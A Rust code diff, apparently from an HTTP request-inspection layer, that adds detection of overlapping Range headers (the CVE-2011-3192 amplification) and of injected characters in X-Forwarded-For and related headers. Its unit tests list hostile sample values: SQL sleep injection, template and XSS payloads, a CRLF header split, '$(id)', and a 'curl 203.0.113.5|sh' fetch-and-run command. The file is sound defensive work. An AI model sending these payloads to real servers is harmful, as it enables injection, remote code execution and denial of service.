@@ -427,7 +427,9 @@ fn valid_byte_ranges(value: &[u8]) -> bool {
             .then(|| s.parse::<u64>().ok())
             .flatten()
     };
-    list.split(',').all(|r| {
+    // Each range from its start (suffix ranges, counted from the end, are left out).
+    let mut spans: Vec<(u64, u64)> = Vec::new();
+    let each_valid = list.split(',').all(|r| {
         let r = r.trim();
         if r.is_empty() {
             // Empty list elements are allowed by the list syntax.
@@ -435,13 +437,23 @@ fn valid_byte_ranges(value: &[u8]) -> bool {
         }
         match r.split_once('-') {
             Some(("", last)) => number(last).is_some(),
-            Some((first, "")) => number(first).is_some(),
-            Some((first, last)) => {
-                matches!((number(first), number(last)), (Some(a), Some(b)) if a <= b)
-            }
+            Some((first, "")) => number(first)
+                .inspect(|&a| spans.push((a, u64::MAX)))
+                .is_some(),
+            Some((first, last)) => match (number(first), number(last)) {
+                (Some(a), Some(b)) if a <= b => {
+                    spans.push((a, b));
+                    true
+                }
+                _ => false,
+            },
             None => false,
         }
-    })
+    });
+    // Three or more ranges that overlap ask for the same bytes again and again: the
+    // amplification of CVE-2011-3192. Clients that read several parts ask for disjoint ones.
+    spans.sort_unstable();
+    each_valid && (spans.len() < 3 || spans.windows(2).all(|w| w[0].1 < w[1].0))
 }
 
 /// RFC 9110 `tchar`, by table: every header name's every byte is looked up.
@@ -572,6 +584,39 @@ fn valid_content_type(ct: &[u8]) -> bool {
     }
 }
 
+/// Whether `value` of the header `name` (lower case) is not what the header carries. Headers
+/// that pass a client's address or the host it asked for (`X-Forwarded-For`, `X-Real-IP`,
+/// `X-Forwarded-Host`, RFC 7239 `Forwarded`, ...) hold addresses, host names, ports and, in
+/// `Forwarded`, `key=value` pairs; applications log, store and reflect them as trusted text, so
+/// a quote, bracket of another kind, `$`, `<` or `;` in one is an injection, not an address.
+/// Other headers are not judged here (`false`).
+fn forwarding_value_invalid(name: &str, value: &[u8]) -> bool {
+    // Addresses and host names in a list, with `unknown` and obfuscated identifiers (`_a1`).
+    let address = |c: u8| c.is_ascii_alphanumeric() || b".:[]-_, \t".contains(&c);
+    let allowed: &dyn Fn(u8) -> bool = match name {
+        "x-forwarded-for"
+        | "x-real-ip"
+        | "x-client-ip"
+        | "true-client-ip"
+        | "x-originating-ip"
+        | "x-remote-ip"
+        | "x-remote-addr"
+        | "x-cluster-client-ip"
+        | "cf-connecting-ip"
+        | "x-forwarded-host"
+        | "x-forwarded-server"
+        | "x-original-host"
+        | "x-host" => &address,
+        "x-forwarded-proto" | "x-forwarded-scheme" | "x-forwarded-port" => {
+            &|c: u8| c.is_ascii_alphanumeric() || b", \t".contains(&c)
+        }
+        // RFC 7239: `for=192.0.2.60;proto=http;by=203.0.113.43`, `for="[2001:db8::1]:4711"`.
+        "forwarded" => &|c: u8| address(c) || b"=;\"".contains(&c),
+        _ => return false,
+    };
+    !value.iter().all(|&c| allowed(c))
+}
+
 /// Checks on one input's bytes.
 pub(crate) fn input_checks(input: &Input, v: &Variants, sink: &mut Sink<'_>) {
     if v.had_nul || input.value.contains(&0) {
@@ -612,6 +657,13 @@ pub(crate) fn input_checks(input: &Input, v: &Variants, sink: &mut Sink<'_>) {
                 }) =>
         {
             sink.hit(PROTO_CHARSET, &v.raw, 0);
+        }
+        Kind::OtherHeader
+            if sink.wants(PROTO_FORWARDING_HEADER)
+                && input.label.len() > 7
+                && forwarding_value_invalid(&input.label[7..], &input.value) =>
+        {
+            sink.hit(PROTO_FORWARDING_HEADER, &v.raw, 0);
         }
         _ => {}
     }
@@ -679,6 +731,61 @@ mod tests {
         let tchars: Vec<u8> = (0..=255u8).filter(|&b| is_tchar(b)).collect();
         assert_eq!(tchars.len(), 62 + 15);
         assert!(!is_tchar(b':') && !is_tchar(b' ') && !is_tchar(0x80) && is_tchar(b'~'));
+    }
+
+    #[test]
+    fn byte_ranges_that_overlap_three_times_are_invalid() {
+        for ok in [
+            "bytes=0-499",
+            "bytes=0-99,200-299,400-",
+            "bytes=-500",
+            "bytes=0-0,-1",
+            "bytes=500-,0-99",
+        ] {
+            assert!(valid_byte_ranges(ok.as_bytes()), "{ok}");
+        }
+        for bad in [
+            "bytes=0-,1-,2-,3-",
+            "bytes=0-99,50-150,200-300",
+            "bytes=10-5",
+            "bytes=x-1",
+        ] {
+            assert!(!valid_byte_ranges(bad.as_bytes()), "{bad}");
+        }
+    }
+
+    #[test]
+    fn forwarding_headers_hold_only_addresses() {
+        for (name, ok) in [
+            ("x-forwarded-for", "203.0.113.7, 10.0.0.1"),
+            ("x-forwarded-for", "2001:db8::1, unknown, _hidden"),
+            ("x-real-ip", "[2001:db8::1]:8080"),
+            ("x-forwarded-host", "api.example.com:8443"),
+            ("x-forwarded-proto", "https"),
+            ("x-forwarded-port", "443"),
+            ("forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"),
+            ("forwarded", "for=\"[2001:db8:cafe::17]:4711\", for=_gazonk"),
+            ("x-tenant-id", "acme' --"),
+        ] {
+            assert!(
+                !forwarding_value_invalid(name, ok.as_bytes()),
+                "{name}: {ok}"
+            );
+        }
+        for (name, bad) in [
+            ("x-forwarded-for", "127.0.0.1' or sleep(6)#"),
+            ("x-forwarded-for", "${7*7}"),
+            ("x-forwarded-host", "<svg onload=alert(1)>"),
+            ("x-forwarded-host", "example.com;curl 203.0.113.5|sh"),
+            ("x-real-ip", "1.2.3.4\r\nx: y"),
+            ("x-forwarded-proto", "https'"),
+            ("forwarded", "for=1.2.3.4;by=$(id)"),
+        ] {
+            assert!(
+                forwarding_value_invalid(name, bad.as_bytes()),
+                "{name}: {bad}"
+            );
+        }
     }
 
     #[test]
